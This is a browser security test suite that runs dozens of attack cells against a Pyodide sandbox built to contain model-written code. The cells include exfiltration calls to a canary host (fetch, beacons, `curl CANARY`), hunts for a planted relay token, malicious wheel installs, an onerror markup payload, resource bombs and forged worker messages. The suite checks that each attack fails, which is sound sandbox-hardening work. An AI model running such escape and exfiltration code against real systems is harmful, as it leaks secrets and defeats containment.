"""Hostile cells against the sandbox's walls, through the real JS API.

Each attack is a realistic attempt by the model's code (or text steering it) to send
something out, reach the page, the agent, the relay token or another sandbox, or to
hang or break the session. Every attack runs against two servers: the plain static
server (the frame's CSP from its <meta> tag only) and the site with the build's
headers (`reckon serve`'s CSP headers and COOP/COEP).

After each attack: the result has a clear status, nothing printed "REACHED", the
canary on 127.0.0.1 (which records every request and would answer any origin) got
nothing, and a benign cell still works. See SECURITY.md for the threat model.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from .helpers import Canary, a_canary, a_console, call, page_call, run

pytestmark = pytest.mark.browser

SENTINEL = "rk-relay-token-7f3a9c21"  # a fake relay token planted in the page

# Helpers every attack cell starts with (the namespace is fresh for each attack).
PRELUDE = '''
import asyncio, js, json, os, sys
from pyodide.ffi import create_proxy, to_js

def js_obj(d):
    return to_js(d, dict_converter=js.Object.fromEntries)

def blob_url(source):
    blob = js.Blob.new(to_js([source]), js_obj({"type": "text/javascript"}))
    return js.URL.createObjectURL(blob)

async def settle(promise, seconds=5):
    """Await a JS promise: "REACHED ..." if it resolved, "BLOCKED ..." if not."""
    try:
        value = await asyncio.wait_for(promise, seconds)
    except Exception as exc:
        return f"BLOCKED {type(exc).__name__}: {exc}"[:300]
    return f"REACHED {value!r}"[:300]

async def first_event(target, good, bad, seconds=4):
    """The first of the `good` (reached) or `bad` (blocked) events on `target`."""
    fut = asyncio.get_running_loop().create_future()
    def on(label):
        return create_proxy(lambda ev: fut.done() or fut.set_result(label))
    for name in good:
        target.addEventListener(name, on("REACHED " + name))
    for name in bad:
        target.addEventListener(name, on("BLOCKED " + name))
    try:
        return await asyncio.wait_for(fut, seconds)
    except asyncio.TimeoutError:
        return "BLOCKED (no event)"

async def first_message(target, seconds=4):
    """What a worker we started posts back first (its own verdict), or its error."""
    fut = asyncio.get_running_loop().create_future()
    target.onmessage = create_proxy(lambda ev: fut.done() or fut.set_result(str(ev.data)))
    target.onerror = create_proxy(lambda ev: fut.done() or fut.set_result("BLOCKED error event"))
    try:
        return await asyncio.wait_for(fut, seconds)
    except asyncio.TimeoutError:
        return "BLOCKED (no message)"

async def worker_verdict(make):
    """What a worker the cell starts says first; BLOCKED when none can be started."""
    try:
        worker = make()
    except Exception as exc:
        return f"BLOCKED {type(exc).__name__}: {exc}"[:300]
    return await first_message(worker)

async def settle_call(fn, seconds=5):
    """settle(fn()), where fn itself may already refuse (an API that is not there)."""
    try:
        promise = fn()
    except Exception as exc:
        return f"BLOCKED {type(exc).__name__}: {exc}"[:300]
    return await settle(promise, seconds)

def attempt(fn):
    """Call fn(); print REACHED with its value, or BLOCKED with the exception."""
    try:
        value = fn()
    except BaseException as exc:
        print("BLOCKED", type(exc).__name__, str(exc)[:200])
    else:
        print("REACHED", repr(value)[:200])
'''

# JS run inside a worker the attack starts: it reports its own verdict.
JS_FETCH_VERDICT = (
    "fetch('{url}').then(r => postMessage('REACHED ' + r.status), e => postMessage('BLOCKED ' + e))"
)
JS_XHR_SYNC = (
    "(u) => {{ const x = new XMLHttpRequest(); x.open('GET', u, false); x.send();"
    " return 'REACHED ' + x.status; }}"
)


@dataclass(frozen=True)
class Attack:
    code: str
    statuses: tuple[str, ...] = ("ok",)
    timeout_ms: int | None = 8000
    deadline_s: float = 30.0
    # Extra checks on the result (beyond: no REACHED, clear status, canary silent).
    check: Callable[[dict[str, Any]], None] | None = None
    must_print: str | None = "BLOCKED"
    # Ends through the page's watchdog and a new worker: run in the lean sandbox,
    # whose restarts take seconds (see `lean`).
    lean: bool = False


def _error_type(*names: str) -> Callable[[dict[str, Any]], None]:
    def check(result: dict[str, Any]) -> None:
        assert result["error"] is not None, result
        assert result["error"]["type"] in names, result["error"]

    return check


def _truncated(result: dict[str, Any]) -> None:
    assert result["truncated"] is True, {k: result[k] for k in ("status", "truncated")}
    text = result["stdout"] + result["stderr"]
    assert len(text) < 1_000_000, len(text)
    assert "[output truncated:" in text, text[-300:]


def _restarted(result: dict[str, Any]) -> None:
    assert result["restarted"] is True, result


def _not_restarted(result: dict[str, Any]) -> None:
    assert result["restarted"] is False, result
    assert result["result"]["text"] == "'still seen'", result


def _interpreter_exit(code: int) -> Callable[[dict[str, Any]], None]:
    def check(result: dict[str, Any]) -> None:
        error = result["error"]
        assert error["type"] == "InterpreterExit", error
        assert f"exit status {code}" in error["message"], error
        assert "files under /data are kept" in error["message"], error
        assert result["restarted"] is True, result

    return check


def _crashed(cause: str) -> Callable[[dict[str, Any]], None]:
    def check(result: dict[str, Any]) -> None:
        error = result["error"]
        assert error["type"] == "SandboxCrash", error
        assert "interpreter crashed" in error["message"] and cause in error["message"], error
        assert result["restarted"] is True, result

    return check


def _short_recursion_error(result: dict[str, Any]) -> None:
    error = result["error"]
    assert error["type"] == "RecursionError", error
    assert "more times]" in error["traceback"], error["traceback"][-300:]
    assert len(error["traceback"]) < 2000, len(error["traceback"])
    assert result["restarted"] is False, result


def _timeout_kept_state(result: dict[str, Any]) -> None:
    assert result["error"]["type"] == "KeyboardInterrupt", result["error"]


ATTACKS: dict[str, Attack] = {
    # --- fetch ------------------------------------------------------------------------
    "fetch-canary": Attack('print(await settle(js.fetch("CANARY/fetch")))'),
    "fetch-canary-post-body": Attack(
        "body = 'secret=' + ','.join(os.listdir('/data'))\n"
        'init = js_obj({"method": "POST", "body": body, "mode": "no-cors"})\n'
        'print(await settle(js.fetch("CANARY/post", init)))'
    ),
    "fetch-canary-keepalive": Attack(
        'print(await settle(js.fetch("CANARY/keepalive", js_obj({"keepalive": True}))))'
    ),
    "fetch-request-object": Attack(
        'print(await settle(js.fetch(js.Request.new("CANARY/request-object"))))'
    ),
    "fetch-own-origin-v1-models": Attack('print(await settle(js.fetch("SITE/v1/models")))'),
    "fetch-own-origin-relative": Attack('print(await settle(js.fetch("/v1/models")))'),
    "fetch-data-url": Attack('print(await settle(js.fetch("data:text/plain,hello")))'),
    "fetch-blob-url": Attack(
        'print(await settle(js.fetch(js.URL.createObjectURL(js.Blob.new(to_js(["x"]))))))'
    ),
    "fetch-unpatched-from-prototype": Attack(
        # The worker wraps self.fetch; the original from the prototype is no better.
        "proto = js.eval('WorkerGlobalScope.prototype.fetch')\n"
        'print(await settle(proto.call(js.self, "CANARY/proto-fetch")))'
    ),
    "fetch-through-runtime-prefix": Attack(
        # URLs under the runtime's indexURL are answered from memory, never the network.
        "import pyodide_js\n"
        "base = pyodide_js._api.config.indexURL\n"
        'resp = await js.fetch(base + "../v1/models?to=CANARY")\n'
        "text = await resp.text()\n"
        'print("BLOCKED" if resp.status == 404 and "not in this build" in text else "REACHED",'
        " resp.status, text[:80])"
    ),
    # --- XHR, WebSocket, EventSource, WebTransport, beacon, WebRTC ----------------------
    "xhr-async-canary": Attack(
        "x = js.XMLHttpRequest.new()\n"
        'x.open("GET", "CANARY/xhr-async")\n'
        'verdict = first_event(x, ["load"], ["error", "abort"])\n'
        "x.send()\n"
        "print(await verdict)"
    ),
    "xhr-sync-canary": Attack(
        'attempt(lambda: js.eval("' + JS_XHR_SYNC.format() + '")("CANARY/xhr-sync"))'
    ),
    "xhr-sync-own-origin": Attack(
        'attempt(lambda: js.eval("' + JS_XHR_SYNC.format() + '")("SITE/v1/models"))'
    ),
    "websocket-canary": Attack(
        "try:\n"
        '    ws = js.WebSocket.new("ws://127.0.0.1:CPORT/ws")\n'
        "except Exception as exc:\n"
        '    print("BLOCKED", type(exc).__name__)\n'
        "else:\n"
        '    print(await first_event(ws, ["open", "message"], ["error", "close"]))'
    ),
    "eventsource-canary": Attack(
        "try:\n"
        '    es = js.EventSource.new("CANARY/events")\n'
        "except Exception as exc:\n"
        '    print("BLOCKED", type(exc).__name__)\n'
        "else:\n"
        '    print(await first_event(es, ["open", "message"], ["error"]))\n'
        "    es.close()"
    ),
    "webtransport-canary": Attack(
        "try:\n"
        "    wt = js.WebTransport.new('https://127.0.0.1:CPORT/wt')\n"
        "except Exception as exc:\n"
        '    print("BLOCKED", type(exc).__name__)\n'
        "else:\n"
        "    print(await settle(wt.ready))"
    ),
    "sendBeacon-canary": Attack(
        'attempt(lambda: js.navigator.sendBeacon("CANARY/beacon", "secret") or 1 / 0)'
    ),
    "webrtc-peerconnection": Attack(
        # In a window, WebRTC ignores connect-src; a worker must not have it at all.
        "attempt(lambda: js.RTCPeerConnection.new("
        'js_obj({"iceServers": [js_obj({"urls": "stun:127.0.0.1:CPORT"})]})))'
    ),
    # --- scripts and workers ----------------------------------------------------------------
    "importScripts-canary": Attack('attempt(lambda: js.importScripts("CANARY/script.js"))'),
    "importScripts-data-url": Attack(
        "attempt(lambda: js.importScripts(\"data:text/javascript,fetch('CANARY/data-script')\"))"
    ),
    "importScripts-blob-then-fetch": Attack(
        # blob: scripts may run (that is just eval); their requests are still refused.
        "js.importScripts(blob_url(\"self.__probe = fetch('CANARY/imported')"
        ".then(r => 'REACHED ' + r.status, e => 'BLOCKED ' + e)\"))\n"
        "print(await js.self.__probe)"
    ),
    "worker-from-canary-url": Attack(
        "try:\n"
        '    w = js.Worker.new("CANARY/worker.js")\n'
        "except Exception as exc:\n"
        '    print("BLOCKED", type(exc).__name__)\n'
        "else:\n"
        "    print(await first_message(w))"
    ),
    "worker-from-blob-fetches": Attack(
        "print(await worker_verdict(lambda: js.Worker.new(blob_url("
        + repr(JS_FETCH_VERDICT.format(url="CANARY/nested"))
        + "))))"
    ),
    "worker-from-blob-xhr-sync": Attack(
        "src = "
        + repr(
            "try { postMessage((" + JS_XHR_SYNC.format() + ')("CANARY/nested-xhr")) }'
            ' catch (e) { postMessage("BLOCKED " + e) }'
        )
        + "\nprint(await worker_verdict(lambda: js.Worker.new(blob_url(src))))"
    ),
    "dynamic-import-canary": Attack(
        "print(await js.eval(\"import('CANARY/module.js').then(() => 'REACHED',"
        " e => 'BLOCKED ' + e)\"))"
    ),
    "worker-from-blob-importScripts": Attack(
        'src = \'try { importScripts("CANARY/nested.js"); postMessage("REACHED") }'
        ' catch (e) { postMessage("BLOCKED " + e) }\'\n'
        "print(await worker_verdict(lambda: js.Worker.new(blob_url(src))))"
    ),
    "worker-from-data-url": Attack(
        "try:\n"
        '    w = js.Worker.new("data:text/javascript,postMessage(1)")\n'
        "except Exception as exc:\n"
        '    print("BLOCKED", type(exc).__name__)\n'
        "else:\n"
        "    print(await first_message(w))"
    ),
    "worker-that-would-outlive-the-run": Attack(
        # A worker would keep running after the run, a restart and reset(): there is none
        # to start, and the constructor cannot be put back.
        "attempt(lambda: js.eval('new Worker(URL.createObjectURL(new Blob([\"setInterval("
        '() => fetch(\\"CANARY/late\\"), 100)"])))\'))\n'
        "attempt(lambda: js.eval('Object.defineProperty(self, \"Worker\", {value: 1}); 1'))\n"
        "print('typeof', js.eval('typeof Worker + \" \" + typeof SharedWorker'))",
        must_print="typeof undefined undefined",
    ),
    "sharedworker-from-blob": Attack(
        "attempt(lambda: js.SharedWorker.new(blob_url("
        + repr(JS_FETCH_VERDICT.format(url="CANARY/shared"))
        + ")))"
    ),
    "wasm-compileStreaming-fetch": Attack(
        'print(await settle(js.WebAssembly.compileStreaming(js.fetch("CANARY/m.wasm"))))'
    ),
    # --- eval, Function, constructor chains -------------------------------------------------
    "js-eval-fetch": Attack(
        "print(await js.eval(\"fetch('CANARY/eval').then(r => 'REACHED ' + r.status,"
        " e => 'BLOCKED ' + e)\"))"
    ),
    "js-Function-xhr": Attack(
        "f = js.Function.new('u', \"try { const x = new XMLHttpRequest(); x.open('GET', u, false);"
        " x.send(); return 'REACHED ' + x.status } catch (e) { return 'BLOCKED ' + e }\")\n"
        'print(f("CANARY/function"))'
    ),
    "constructor-chain-global-fetch": Attack(
        'g = js.Object.constructor.constructor("return this")()\n'
        'print(await settle(g.fetch("CANARY/constructor")))'
    ),
    "constructor-chain-global-xhr": Attack(
        'g = js.Object.constructor.constructor("return this")()\n'
        "def go():\n"
        "    x = g.XMLHttpRequest.new()\n"
        '    x.open("GET", "CANARY/constructor-xhr", False)\n'
        "    x.send()\n"
        "    return x.status\n"
        "attempt(go)"
    ),
    # --- Pyodide's own network paths and internals -------------------------------------------
    "pyodide-pyfetch": Attack(
        'from pyodide.http import pyfetch\nprint(await settle(pyfetch("CANARY/pyfetch")))'
    ),
    "pyodide-open_url": Attack(
        'from pyodide.http import open_url\nattempt(lambda: open_url("CANARY/open_url").read())'
    ),
    "micropip-install-url": Attack(
        "try:\n"
        "    import micropip\n"
        "except ImportError as exc:\n"
        '    print("BLOCKED", exc)\n'
        "else:\n"
        '    print(await settle(micropip.install("CANARY/evil-1.0-py3-none-any.whl")))'
    ),
    "pyodide-loadPackage-url": Attack(
        "import pyodide_js\n"
        'await pyodide_js.loadPackage("CANARY/evil-1.0-py3-none-any.whl")\n'
        'attempt(lambda: __import__("evil"))'
    ),
    "pyodide-indexURL-rewrite": Attack(
        "import pyodide_js\n"
        "config = pyodide_js._api.config\n"
        "saved = config.indexURL\n"
        'config.indexURL = "CANARY/"\n'
        "try:\n"
        '    print(await settle(pyodide_js._api.loadBinaryFile("CANARY/evil.whl")))\n'
        "finally:\n"
        "    config.indexURL = saved"
    ),
    "pyodide-FS-createLazyFile": Attack(
        "import pyodide_js\n"
        'pyodide_js.FS.createLazyFile("/tmp", "lazy.txt", "CANARY/lazy", True, False)\n'
        'attempt(lambda: open("/tmp/lazy.txt").read())',
        # The refused sync XHR is fatal to Pyodide: said so at once, a new worker takes over.
        statuses=("error",),
        timeout_ms=30_000,
        deadline_s=90,
        must_print=None,
        check=_crashed("NetworkError"),
        lean=True,
    ),
    "pyodide-internals-hold-no-secret": Attack(
        "import pyodide_js\n"
        "seen = [pyodide_js._api.config.indexURL, str(pyodide_js._module.HEAP8.length),\n"
        "        json.dumps(sorted(pyodide_js.FS.readdir('/')))]\n"
        'print("REACHED" if any("SENTINEL" in s for s in seen) else "BLOCKED", seen[:2])'
    ),
    # --- the page, other contexts, storage ---------------------------------------------------
    "parent-top-opener": Attack(
        "found = [n for n in ('parent', 'top', 'opener', 'frames', 'document', 'window')\n"
        "         if getattr(js.self, n, None) is not None]\n"
        'print("REACHED" if found else "BLOCKED", found)'
    ),
    "document-create-iframe": Attack(
        "def go():\n"
        '    f = js.document.createElement("iframe")\n'
        '    f.src = "CANARY/iframe"\n'
        "    js.document.body.appendChild(f)\n"
        "attempt(go)"
    ),
    "document-cookie": Attack("attempt(lambda: js.document.cookie)"),
    "localStorage": Attack('attempt(lambda: js.localStorage.setItem("k", "v"))'),
    "sessionStorage-token": Attack('attempt(lambda: js.sessionStorage.getItem("reckon-token"))'),
    "caches-open": Attack('print(await settle_call(lambda: js.caches.open("exfil")))'),
    "indexedDB-open": Attack(
        "try:\n"
        '    req = js.indexedDB.open("exfil")\n'
        "except Exception as exc:\n"
        '    print("BLOCKED", type(exc).__name__)\n'
        "else:\n"
        '    print(await first_event(req, ["success", "upgradeneeded"], ["error"]))'
    ),
    "opfs-getDirectory": Attack(
        "print(await settle_call(lambda: js.navigator.storage.getDirectory()))"
    ),
    "serviceWorker-register": Attack(
        "attempt(lambda: js.navigator.serviceWorker.register("
        "blob_url(" + repr(JS_FETCH_VERDICT.format(url="CANARY/sw")) + ")))"
    ),
    "relay-token-hunt": Attack(
        # self.name, location, every global, the environment, the files: no token.
        "names = js.Object.getOwnPropertyNames(js.self).to_py()\n"
        "haystack = [str(js.self.name), str(js.self.location.href), json.dumps(dict(os.environ))]\n"
        "for n in names:\n"
        "    try:\n"
        "        value = js.eval('String(self[' + json.dumps(n) + '])')\n"
        "        haystack.append(n + '=' + str(value)[:2000])\n"
        "    except Exception:\n"
        "        pass\n"
        "for root in ('/home', '/tmp', '/data', '/output', '/mnt'):\n"
        "    for d, _, files in os.walk(root):\n"
        "        for f in files:\n"
        "            try:\n"
        "                data = open(os.path.join(d, f), 'rb').read(1 << 20)\n"
        "                haystack.append(data.decode('latin-1'))\n"
        "            except OSError:\n"
        "                pass\n"
        "blob = '\\n'.join(haystack)\n"
        'print("REACHED" if "SENTINEL" in blob or "Bearer" in blob else "BLOCKED", len(names))'
    ),
    # --- limits ------------------------------------------------------------------------------
    "python-infinite-loop": Attack(
        "n = 0\nwhile True:\n    n += 1",
        statuses=("timeout",),
        timeout_ms=1500,
        must_print=None,
        check=_timeout_kept_state,
    ),
    "sleep-forever": Attack(
        "import time\ntime.sleep(1e9)",
        statuses=("timeout",),
        timeout_ms=1500,
        must_print=None,
    ),
    "js-infinite-loop": Attack(
        # Python never gets control back to see the KeyboardInterrupt: the watchdog ends it.
        'js.eval("for (;;) {}")',
        statuses=("timeout",),
        timeout_ms=1000,
        deadline_s=60,
        must_print=None,
        check=_restarted,
        lean=True,
    ),
    "disable-interrupt-buffer-then-loop": Attack(
        "import pyodide_js\n"
        "pyodide_js.setInterruptBuffer(js.Int32Array.new(1))\n"
        "while True:\n    pass",
        statuses=("timeout",),
        timeout_ms=1000,
        deadline_s=60,
        must_print=None,
        check=_restarted,
        lean=True,
    ),
    "mute-postMessage": Attack(
        # The worker keeps its own postMessage from before any cell ran, so replacing
        # the global one mutes nothing: the reply arrives, no restart is needed.
        "js.self.postMessage = create_proxy(lambda *args: None)\n'still seen'",
        statuses=("ok",),
        timeout_ms=1000,
        deadline_s=60,
        must_print=None,
        check=_not_restarted,
        lean=True,
    ),
    "atomics-wait-in-worker": Attack(
        "def go():\n"
        "    cell = js.Int32Array.new(js.SharedArrayBuffer.new(4))\n"
        "    return js.Atomics.wait(cell, 0, 0, 300)\n"
        "try:\n"
        "    print('waited', go())\n"
        "except Exception as exc:\n"
        "    print('no shared memory here:', type(exc).__name__)",
        must_print=None,
    ),
    "memory-bomb-gradual": Attack(
        "import time\nblocks = []\nwhile True:\n"
        "    blocks.append(bytearray(4 * 1024 * 1024))\n    time.sleep(0.02)",
        statuses=("timeout", "error"),
        timeout_ms=2500,
        deadline_s=60,
        must_print=None,
    ),
    "memory-bomb-single": Attack(
        "b'x' * (1 << 34)",
        statuses=("error",),
        must_print=None,
        check=_error_type("MemoryError", "OverflowError"),
    ),
    "deep-recursion": Attack(
        "def f():\n    f()\nf()",
        statuses=("error",),
        must_print=None,
        check=_error_type("RecursionError"),
    ),
    "deep-recursion-raised-limit": Attack(
        # A million frames: a RecursionError with a short traceback (repeats counted),
        # not a timeout spent formatting a million lines.
        "sys.setrecursionlimit(10**6)\ndef f(n):\n    return f(n + 1)\nf(0)",
        statuses=("error",),
        timeout_ms=90_000,
        deadline_s=120,
        must_print=None,
        check=_short_recursion_error,
        lean=True,
    ),
    "output-flood-stdout": Attack(
        "line = 'x' * 1023\nfor _ in range(10 * 1024):\n    print(line)",
        must_print=None,
        check=_truncated,
        deadline_s=60,
    ),
    "output-flood-stderr": Attack(
        "line = 'e' * 1023 + '\\n'\nfor _ in range(10 * 1024):\n    sys.stderr.write(line)",
        must_print=None,
        check=_truncated,
        deadline_s=60,
    ),
    "output-flood-one-line": Attack(
        "print('y' * (10 * 1024 * 1024))", must_print=None, check=_truncated, deadline_s=60
    ),
    # --- processes, exits, threads, the file system --------------------------------------------
    "os-fork": Attack("attempt(lambda: os.fork())"),
    "subprocess-run": Attack(
        "attempt(lambda: __import__('subprocess').run(['curl', 'CANARY/subprocess']))"
    ),
    "os-system": Attack(
        "def go():\n"
        "    rc = os.system('curl CANARY/os-system')\n"
        "    assert rc == 0, rc\n"
        "attempt(go)"
    ),
    "threading": Attack(
        "import threading\nattempt(lambda: threading.Thread(target=print).start())"
    ),
    "multiprocessing": Attack(
        "attempt(lambda: __import__('multiprocessing').Pool(2).map(abs, [1]))"
    ),
    "socket-connect": Attack(
        # Emscripten's sockets ride on WebSocket: the connect may look fine, no byte moves.
        "import socket\n"
        "def go():\n"
        "    s = socket.create_connection(('127.0.0.1', CPORT), timeout=2)\n"
        "    s.sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n')\n"
        "    return s.recv(100)\n"
        "attempt(go)"
    ),
    "urllib-urlopen": Attack(
        "import urllib.request\n"
        "attempt(lambda: urllib.request.urlopen('CANARY/urllib', timeout=3).read())"
    ),
    "sys-exit": Attack(
        "sys.exit('bye')", statuses=("error",), must_print=None, check=_error_type("SystemExit")
    ),
    "os-_exit": Attack(
        "os._exit(1)",
        statuses=("error",),
        timeout_ms=30_000,
        deadline_s=90,
        must_print=None,
        check=_interpreter_exit(1),
        lean=True,
    ),
    "os-_exit-zero": Attack(
        "print('before')\nos._exit(0)",
        statuses=("error",),
        timeout_ms=30_000,
        deadline_s=90,
        must_print=None,
        check=_interpreter_exit(0),
        lean=True,
    ),
    "write-lib-python": Attack(
        "path = '/lib/python3.12/site-packages/reckon_attack_probe.py'\n"
        "open(path, 'w').write('import js\\nLOADED = True\\n')\n"
        "import importlib; importlib.invalidate_caches()\n"
        "import reckon_attack_probe\n"
        "print('written, loaded in this sandbox only:', reckon_attack_probe.LOADED)",
        must_print="loaded in this sandbox only: True",
    ),
}


def fill(code: str, canary: Canary, site: str) -> str:
    return (
        code.replace("CANARY", canary.url)
        .replace("CPORT", str(canary.port))
        .replace("SITE", site)
        .replace("SENTINEL", SENTINEL)
    )


# --- fixtures ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    with a_canary() as server:
        yield server


@pytest.fixture(scope="module")
def attack_page(a_browser: Any, server: tuple[str, str]) -> Iterator[Any]:
    """One console page per server for the whole battery, with a planted fake token."""
    kind, url = server
    with a_console(a_browser, url) as (page, ready):
        assert ready["crossOriginIsolated"] is (kind == "headers"), ready
        settle_in(page)
        page_call(page, LEAN_SANDBOX, deadline_s=120)
        page_call(
            page,
            "sessionStorage.setItem('reckon-token', arg); window.reckon.agent.token = arg;"
            " window.relayToken = arg;",
            SENTINEL,
        )
        yield page


# A second Sandbox on the page (the real frame, worker and watchdog) that loads only
# the eager packages and does not warm up: a restart takes seconds instead of the
# better part of a minute, so the attacks that end in a restart stay affordable.
LEAN_SANDBOX = """
  const { Sandbox } = await import("./sandbox-client.js");
  class Lean extends Sandbox {
    boot(kind) {
      this.info.sandbox.all_packages = [...this.info.sandbox.packages];
      this.config.warm = false;
      return super.boot(kind);
    }
  }
  window.lean = new Lean();
  await withDeadline(window.lean.ready(), deadlineMs, "lean sandbox");
"""


def run_lean(
    page: Any, code: str, *, timeout_ms: int | None = None, deadline_s: float = 30.0
) -> dict[str, Any]:
    options = {} if timeout_ms is None else {"timeoutMs": timeout_ms}
    body = "return await withDeadline(window.lean.run(arg[0], arg[1]), deadlineMs, 'lean run')"
    result: dict[str, Any] = page_call(page, body, [code, options], deadline_s=deadline_s)
    return result


def lean_call(page: Any, method: str, deadline_s: float = 60.0) -> Any:
    body = "return await withDeadline(window.lean[arg](), deadlineMs, arg)"
    return page_call(page, body, method, deadline_s=deadline_s)


def settle_in(page: Any) -> None:
    """Wait until the worker has installed the rest of the stack (it does so when idle,
    in its queue), so each attack's time is its own."""
    assert run(page, "1", deadline_s=180)["status"] == "ok"


def recover(page: Any) -> None:
    """A fresh namespace; a fresh worker if the last attack left it unable to answer."""
    try:
        call(page, "reset", deadline_s=30)
    except Exception:
        call(page, "restart", deadline_s=90)
        settle_in(page)


@pytest.fixture
def sandbox(attack_page: Any, canary: Canary) -> Any:
    recover(attack_page)
    try:
        lean_call(attack_page, "reset", deadline_s=20)
    except Exception:
        lean_call(attack_page, "restart", deadline_s=60)
    canary.hits.clear()
    return attack_page


def the_session_goes_on(page: Any, canary: Canary, *, lean: bool = False) -> None:
    assert canary.hits == [], f"the canary was reached: {canary.hits}"
    after = (run_lean if lean else run)(page, "1+1", deadline_s=60)
    assert after["status"] == "ok", after
    assert after["result"]["text"] == "2"


# --- the battery -----------------------------------------------------------------------------


def test_the_battery_is_large_enough() -> None:
    assert len(ATTACKS) >= 45


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_attack_fails_cleanly(
    sandbox: Any, canary: Canary, server: tuple[str, str], attack: Attack
) -> None:
    _, url = server
    code = fill(PRELUDE + attack.code, canary, url)
    if attack.lean:
        result = run_lean(sandbox, code, timeout_ms=attack.timeout_ms, deadline_s=attack.deadline_s)
    else:
        result = run(sandbox, code, timeout_ms=attack.timeout_ms, deadline_s=attack.deadline_s)
    shown = {k: result.get(k) for k in ("status", "error", "restarted")}
    shown["stdout"] = result["stdout"][-600:]
    assert result["status"] in attack.statuses, shown
    assert "REACHED" not in result["stdout"], shown
    if attack.must_print:
        assert attack.must_print in result["stdout"], shown
    if attack.check:
        attack.check(result)
    # Give late requests (beacons, workers, sockets) a moment to arrive.
    time.sleep(0.3)
    the_session_goes_on(sandbox, canary, lean=attack.lean)


# --- forged messages from the worker ---------------------------------------------------------

FORGE_JUNK = (
    PRELUDE
    + """
import pyodide_js
junk = [
    None, 0, 1, "reply", [], [1, 2], js_obj({}), js_obj({"type": js_obj({})}),
    js_obj({"type": "reply"}), js_obj({"type": "reply", "id": None, "status": "ok"}),
    js_obj({"type": "reply", "id": 10**9, "status": "ok", "stdout": "FORGED"}),
    js_obj({"type": "reply", "id": -1, "status": "ok"}),
    js_obj({"type": "reply", "id": "1", "status": "ok"}),
    js_obj({"type": "stream", "id": 10**9, "name": "stdout", "text": "FORGED"}),
    js_obj({"type": "stream", "id": 10**9, "name": "stdout", "text": js_obj({"x": 1})}),
    js_obj({"type": "started", "id": 10**9}),
    js_obj({"type": "progress", "loaded": -1, "total": 0}),
    js_obj({"type": "ready"}), js_obj({"type": "frame-restart"}), js_obj({"type": "frame-ready"}),
    js_obj({"type": "agent-ready"}), js_obj({"type": "call", "id": 1, "method": "writeFile",
        "args": js_obj({"path": "/data/x", "data": "x"})}),
    js.Blob.new(to_js(["blob"])), js.ArrayBuffer.new(16), js.Date.new(), js.Map.new(),
    js.eval("(() => { const o = {type: 'reply'}; o.self = o; o.id = 1e9; return o })()"),
    js.eval("(() => { let o = {}; for (let i = 0; i < 5000; i++) o = {type: 'stream', n: o};"
            " return o })()"),
    js_obj({"type": "reply", "id": 10**9, "status": "ok", "stdout": "H" * (30 * 1024 * 1024)}),
    js_obj({"type": "stream", "id": 10**9, "name": "stdout", "text": "S" * (30 * 1024 * 1024)}),
]
junk += [js_obj({"type": "reply", "id": 1, "f": js.eval("() => 1")}),
         js_obj({"type": "stream", "id": 1, "s": js.eval("Symbol('s')")})]
for message in junk:
    try:
        js.self.postMessage(message)
    except Exception:
        pass  # not cloneable (a function, a symbol, too deep): refused in the worker
await asyncio.sleep(0.3)
print("sent", len(junk))
"""
)


def test_forged_junk_messages_are_only_data(sandbox: Any, canary: Canary) -> None:
    """Garbage, unknown types, other ids, cycles, deep nesting, 30 MB strings: the page
    ignores what it does not expect, and the attacker's own run ends with its real output."""
    result = run(sandbox, FORGE_JUNK, deadline_s=60)
    assert result["status"] == "ok", result.get("error")
    assert result["stdout"] == "sent 32\n", result["stdout"][:300]
    assert "FORGED" not in result["stdout"]
    assert page_call(sandbox, "return typeof window.reckon.run") == "function"
    the_session_goes_on(sandbox, canary)


FORGE_BY_EVENT = """
import asyncio, js
from pyodide.ffi import to_js
def obj(d):
    return to_js(d, dict_converter=js.Object.fromEntries)
# A fake request delivered to the worker's own listeners, and a fake channel.
fake = js.MessageChannel.new()
for other in range(1, 200):
    args = obj({"code": "print('FORGED')"})
    forged = obj({"type": "call", "id": other, "method": "run", "args": args})
    init = obj({"data": forged})
    js.self.dispatchEvent(js.MessageEvent.new("message", init))
    boot = obj({"type": "call", "id": 0, "method": "boot", "args": obj({})})
    init = obj({"data": boot, "ports": to_js([fake.port2])})
    js.self.dispatchEvent(js.MessageEvent.new("message", init))
await asyncio.sleep(0.2)
print("attacker done")
"""


def test_fake_message_events_do_not_reach_the_worker_or_the_page(
    sandbox: Any, canary: Canary
) -> None:
    """Untrusted (script-made) message events are not requests: no forged run runs, no
    second boot takes over the worker's channel, and the queued run gets its own reply."""
    try:
        victim_code = "print('real')\n6 * 7"
        out = page_call(sandbox, FORGE_BOTH, [FORGE_BY_EVENT, victim_code], deadline_s=60)
        attacked, victim = out
        assert attacked["status"] == "ok", attacked
        assert attacked["stdout"] == "attacker done\n", attacked
        assert victim["stdout"] == "real\n", victim
        assert victim["result"]["text"] == "42", victim
    finally:
        lean_call(sandbox, "restart")
    the_session_goes_on(sandbox, canary, lean=True)


def test_a_forged_crash_message_is_ignored(sandbox: Any, canary: Canary) -> None:
    """What a cell posts to `self` reaches nobody: a fake "crash" with markup in it
    neither restarts the sandbox nor runs in the page."""
    code = (
        "import js\nfrom pyodide.ffi import to_js\n"
        "js.self.postMessage(to_js({'type': 'crash',"
        " 'message': '<img src=x onerror=\"window.pwned=1\">'},"
        " dict_converter=js.Object.fromEntries))\n"
        "import time\ntime.sleep(1)"
    )
    result = run_lean(sandbox, code, deadline_s=60)
    assert result["status"] == "ok", result
    assert result["restarted"] is False, result
    assert page_call(sandbox, "return window.pwned === undefined") is True
    the_session_goes_on(sandbox, canary, lean=True)


FORGE_FOR_OTHERS = """
import asyncio, js
from pyodide.ffi import to_js
def send(d):
    js.self.postMessage(to_js(d, dict_converter=js.Object.fromEntries))
for other in range(1, 10000):
    KIND
await asyncio.sleep(0.2)
print("attacker done")
"""
FORGE_KINDS = {
    "stream": "send({'type': 'stream', 'id': other, 'name': 'stdout', 'text': 'FORGED '})",
    "reply": (
        "send({'type': 'reply', 'id': other, 'status': 'ok', 'stdout': 'FORGED',"
        " 'result': {'type': 'int', 'text': '-1'}})"
    ),
}


FORGE_BOTH = """
  const [attacker, victim] = arg;
  const a = window.lean.run(attacker);
  const v = window.lean.run(victim);
  return await withDeadline(Promise.all([a, v]), deadlineMs, "runs");
"""


